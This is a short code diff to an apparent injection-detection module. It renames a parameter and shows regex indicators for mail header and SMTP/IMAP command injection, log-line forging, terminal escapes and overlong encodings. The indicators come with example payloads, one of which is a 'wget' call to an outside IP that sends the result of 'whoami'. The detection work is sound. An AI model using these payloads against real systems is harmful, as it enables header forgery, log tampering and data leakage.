@@ -25,10 +25,10 @@ def _make(
     pattern: str,
     source: str,
     prior: float = MEDIUM,
-    opens: tuple[str, ...] = (),
+    prefilter: tuple[str, ...] = (),
     examples: tuple[str, ...] = (),
 ) -> Indicator:
-    return Indicator("protocol." + name, category, pattern, source, prior, opens, examples)
+    return Indicator("protocol." + name, category, pattern, source, prior, prefilter, examples)
 
 
 # fmt: off
@@ -50,7 +50,7 @@ PROTOCOL = (
     # A value for one line that goes on with a header: what follows an address or a short word.
     _make("mail_injection", "mail_line", r"^[^\r\n]{0,60}[\r\n]+[ \t]*(?:b?cc|to|from|subject|reply-to|mime-version|content-type|x-[\w-]{2,24})\s*:", _MAIL, MEDIUM, examples=('\nX-Injected: yes',)),
     _make("mail_injection", "mail_command", r"(?:[\r\n]|^)[ \t\x0b\x0c]*(?:rcpt\s+to|mail\s+from)\s*:|(?:^|[\r\n])[ \t\x0b\x0c]*[a-z]{0,3}\d{1,4}\s+(?:capability|fetch|select|logout|login|create|delete|rename|list|lsub|append|expunge|examine|noop|store|search)\b|[\r\n][ \t\x0b\x0c]*(?:(?:ehlo|helo|vrfy|expn|rset|retr|dele|noop)\b|(?:quit|data|stat)[ \t]*(?:[\r\n]|$))|[\r\n]\.[\r\n]|\"\s*[\r\n]+\s*v\d+\s", _MAIL, STRONG, examples=('\r\nDATA',)),
-    _make("log_injection", "log_line", r"[\r\n][ \t\x0b\x0c]*(?:\[?\d{4}-\d{2}-\d{2}|\[?(?:info|warn(?:ing)?|error|debug|critical|notice|alert)\]?\s*[:\[]|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s+-)", _LOG, WEAK, opens=(*_LINE_BEGINS,), examples=("a\n[ERROR] [1] x", "a\r\n127.0.0.1 - admin")),
+    _make("log_injection", "log_line", r"[\r\n][ \t\x0b\x0c]*(?:\[?\d{4}-\d{2}-\d{2}|\[?(?:info|warn(?:ing)?|error|debug|critical|notice|alert)\]?\s*[:\[]|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\s+-)", _LOG, WEAK, prefilter=(*_LINE_BEGINS,), examples=("a\n[ERROR] [1] x", "a\r\n127.0.0.1 - admin")),
     _make("log_injection", "terminal_escape", r"\x1b\[[\d;]*[a-z]|\x1b\]|\\x1b\[|\\e\[|\\033\[|\[(?:31|32|33|0)m", "CWE-150", MEDIUM, examples=('\\n\\033[2wget http://135.23.158.130/.testing/term_escape.txt?vuln=2?user=\\`whoami\\`',)),
     _make("encoding", "overlong", r"[\xc0\xc1][\x80-\xbf]|\xe0[\x80-\x9f][\x80-\xbf]|%c0%[8-9ab]\w|%c1%[\w]{2}|%e0%80%|%f0%80%80|%f8%80|%fc%80", _HIDE, STRONG, examples=('%c0%ae%c0%ae/',)),
     _make("encoding", "percent_u", r"%u[0-9a-f]{4}", "IIS percent-u form", WEAK, examples=('%u000aX-A:1',)),
